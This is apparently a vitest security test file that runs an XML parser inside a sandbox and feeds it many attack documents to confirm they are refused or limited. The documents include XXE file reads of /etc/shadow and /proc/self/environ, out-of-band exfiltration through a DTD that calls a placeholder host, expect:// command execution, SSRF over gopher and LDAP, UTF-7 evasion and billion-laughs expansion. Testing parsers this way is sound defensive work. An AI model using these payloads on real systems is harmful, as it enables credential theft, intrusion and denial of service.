import { afterAll, expect } from 'vitest'
import { createContainment } from '../containment.ts'
import { type Canary, type EscapeAttempt, testEscapes } from '../testing/escape-table.ts'
import type { XmlOutcome } from './xml-job.ts'

const DEADLINE_MS = 1000
const contained = createContainment({ workers: 2 })
afterAll(() => contained.close())

/** The files of the attacked world, some of them uploaded by the attacker. */
const FILES: Readonly<Record<string, string>> = {
  '/etc/passwd': 'root:x:0:0:invented:/root:/bin/sh',
  '/uploads/steal.dtd': `<!ENTITY % all "<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1/?%file;'>">%all;`,
  '/uploads/loop.xml': '&again;',
  '/uploads/large.txt': 'x'.repeat(900_000),
}
const files = (path: string) => (Object.hasOwn(FILES, path) ? Buffer.from(FILES[path]!) : undefined)
const parse = (bytes: Uint8Array) =>
  contained.xml({ owner: 'attacker', bytes, files, limits: { deadlineMs: DEADLINE_MS } })

function attempt(title: string, document: (canary: Canary) => string | Buffer, kinds = /value|refused/): EscapeAttempt {
  return {
    title,
    run: (canary) => parse(Buffer.from(document(canary) as string)),
    expected: (answer) => expect((answer as XmlOutcome).kind).toMatch(kinds),
  }
}

/** Shows the content of an address by a general entity. */
const showing = (title: string, address: (canary: Canary) => string, kinds?: RegExp) =>
  attempt(title, (canary) => `<!DOCTYPE o [<!ENTITY x SYSTEM "${address(canary)}">]><o>&x;</o>`, kinds)

const levels = (mark: string, count: number, each: number) =>
  Array.from({ length: count }, (_, i) => `<!ENTITY ${mark} l${i + 1} "${`${mark || '&'}l${i};`.repeat(each)}">`).join(
    '',
  )

testEscapes({
  power: 'XML documents',
  deadlineMs: DEADLINE_MS,
  calm: () => contained.xml({ owner: 'calm', bytes: Buffer.from('<o>calm</o>') }),
  attempts: [
    showing('a file of the host by its URL', ({ file }) => `file://${file}`),
    showing('a file of the host by its path', ({ file }) => file),
    showing('a file of the host by a relative path', ({ file }) => `${'../'.repeat(20)}${file}`),
    showing('a file of the host with a host name', ({ file }) => `file://localhost${file}`),
    showing(
      'a file of the host, percent-encoded',
      ({ file }) => `file://${[...file].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`,
    ),
    showing('a file of the host before a null byte', ({ file }) => `file://${file}%00.xml`),
    showing('a folder of the host', ({ folder }) => `file://${folder}/`),
    showing('the host’s account file', () => 'file:///etc/shadow'),
    showing('the environment of the process', () => 'file:///proc/self/environ'),
    showing('the memory of the process', () => 'file:///proc/self/mem'),
    showing('an open file of the process', () => 'file:///proc/self/fd/3'),
    showing('the input of the process', () => 'file:///dev/stdin', /limit/),
    showing('the terminal of the library', () => '/dev/tty', /limit/),
    showing('endless random numbers', () => 'file:///dev/urandom', /limit/),
    showing('endless zeros', () => 'file:///./dev/../dev/zero', /limit/),
    showing('an address of the web', ({ host }) => `http://${host}/`),
    showing('an address of the web with TLS', ({ host }) => `https://${host}/`),
    showing('an address by FTP', ({ host }) => `ftp://${host}/a`),
    showing('an address by gopher', ({ host }) => `gopher://${host}/_GET%20/`),
    showing('an address by LDAP', ({ host }) => `ldap://${host}/o=a`),
    showing('a shared folder of Windows', ({ host }) => `\\\\${host.replace(':', '@')}\\share\\a`),
    showing('a file through a filter of PHP', ({ file }) => `php://filter/read=convert.base64-encode/resource=${file}`),
    showing('a command', () => 'expect://id'),
    showing('a file through Java', ({ file }) => `netdoc:${file}`),
    showing('a file in an archive of the web', ({ host }) => `jar:http://${host}/a.jar!/b`),
    showing('data in its address', () => 'data:text/plain;base64,aGVsbG8='),
    attempt('an external DTD', ({ host }) => `<!DOCTYPE o SYSTEM "http://${host}/o.dtd"><o/>`),
    attempt('a public DTD', ({ host }) => `<!DOCTYPE o PUBLIC "-//O//O" "http://${host}/o.dtd"><o/>`),
    attempt(
      'a DTD that many machines have',
      () => '<!DOCTYPE o [<!ENTITY % d SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">%d;]><o/>',
    ),
    attempt(
      'a file exfiltrated in a URL',
      ({ file, host }) =>
        `<!DOCTYPE o [<!ENTITY % file SYSTEM "file://${file}"><!ENTITY % d SYSTEM "http://${host}/d.dtd">%d;%send;]><o/>`,
    ),
    attempt(
      'a file exfiltrated by a DTD in the shop',
      ({ file }) =>
        `<!DOCTYPE o [<!ENTITY % file SYSTEM "file://${file}"><!ENTITY % d SYSTEM "/uploads/steal.dtd">%d;%send;]><o/>`,
    ),
    attempt(
      'a file in an error message',
      ({ file }) =>
        `<!DOCTYPE o [<!ENTITY % file SYSTEM "file://${file}"><!ENTITY % e "<!ENTITY &#x25; x SYSTEM 'file:///no/%file;'>">%e;%x;]><o/>`,
    ),
    attempt(
      'an inclusion',
      ({ file }) =>
        `<o xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://${file}"/></o>`,
    ),
    attempt(
      'a picture with an entity',
      ({ file }) =>
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${file}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ),
    attempt(
      'an entity in an attribute',
      ({ file }) => `<!DOCTYPE o [<!ENTITY x SYSTEM "file://${file}">]><o a="&x;"/>`,
      /refused/,
    ),
    attempt('a style sheet', ({ host }) => `<?xml-stylesheet type="text/xsl" href="http://${host}/a.xsl"?><o/>`),
    attempt(
      'a catalogue',
      ({ host }) => `<?oasis-xml-catalog catalog="http://${host}/c.xml"?><!DOCTYPE o PUBLIC "x" "y"><o/>`,
    ),
    attempt(
      'a schema',
      ({ host }) =>
        `<o xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a http://${host}/a.xsd"/>`,
    ),
    attempt('another encoding', ({ file }) =>
      Buffer.from(`\ufeff<!DOCTYPE o [<!ENTITY x SYSTEM "file://${file}">]><o>&x;</o>`, 'utf16le'),
    ),
    attempt(
      'an encoding that hides characters',
      ({ file }) =>
        `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE o +AFs-+ADw-+ACE-ENTITY x SYSTEM +ACI-file://${file}+ACI-+AD4-+AF0-+AD4-+ADw-o+AD4-+ACY-x+ADs-+ADw-/o+AD4-`,
      /refused/,
    ),
    attempt('a billion laughs', () => `<!DOCTYPE o [<!ENTITY l0 "ha">${levels('', 9, 10)}]><o>&l9;</o>`, /refused/),
    attempt(
      'a billion laughs with parameter entities',
      () => `<!DOCTYPE o [<!ENTITY % l0 "ha">${levels('%', 9, 10)}%l9;]><o/>`,
      /refused/,
    ),
    attempt(
      'a long entity, repeated many times',
      () => `<!DOCTYPE o [<!ENTITY x "${'x'.repeat(90_000)}">]><o>${'&x;'.repeat(30_000)}</o>`,
      /limit/,
    ),
    attempt(
      'a large file, repeated many times',
      () => `<!DOCTYPE o [<!ENTITY x SYSTEM "/uploads/large.txt">]><o>${'&x;'.repeat(5000)}</o>`,
      /refused|limit/,
    ),
    attempt(
      'a default of an attribute, repeated many times',
      () => `<!DOCTYPE o [<!ATTLIST a b CDATA "${'x'.repeat(90_000)}">]><o>${'<a/>'.repeat(20_000)}</o>`,
      /value|limit/,
    ),
    attempt(
      'an entity with many elements, repeated many times',
      () => `<!DOCTYPE o [<!ENTITY x "${'<a/>'.repeat(9000)}">]><o>${'&x;'.repeat(9000)}</o>`,
      /limit/,
    ),
    attempt(
      'a long entity, repeated in one attribute',
      () => `<!DOCTYPE o [<!ENTITY x "${'x'.repeat(45_000)}">]><o a="${'&x;'.repeat(9000)}"/>`,
      /limit/,
    ),
    attempt(
      'a long parameter entity, repeated many times',
      () => `<!DOCTYPE o [<!ENTITY % x "${' '.repeat(45_000)}">${'%x;'.repeat(9000)}]><o/>`,
      /value|limit/,
    ),
    attempt('the random device as DTD', () => '<!DOCTYPE o SYSTEM "file:///dev/random"><o/>', /limit/),
    attempt('circular entities', () => '<!DOCTYPE o [<!ENTITY a "&b;"><!ENTITY b "&a;">]><o>&a;</o>', /refused/),
    attempt(
      'a file that includes itself',
      () => '<!DOCTYPE o [<!ENTITY again SYSTEM "/uploads/loop.xml">]><o>&again;</o>',
      /refused/,
    ),
    attempt('deeply nested elements', () => '<a>'.repeat(300_000), /refused/),
    attempt(
      'a deeply nested content model',
      () => `<!DOCTYPE o [<!ELEMENT o ${'('.repeat(100_000)}a${')'.repeat(100_000)}>]><o/>`,
      /refused/,
    ),
    attempt(
      'many attributes',
      () => `<o ${Array.from({ length: 60_000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
      /value|refused|limit/,
    ),
    attempt(
      'many namespaces',
      () => `${Array.from({ length: 20_000 }, (_, i) => `<a xmlns:n${i}="n${i}"/>`).join('')}`,
      /refused/,
    ),
    attempt('a long name', () => `<${'a'.repeat(900_000)}/>`, /refused/),
  ],
})
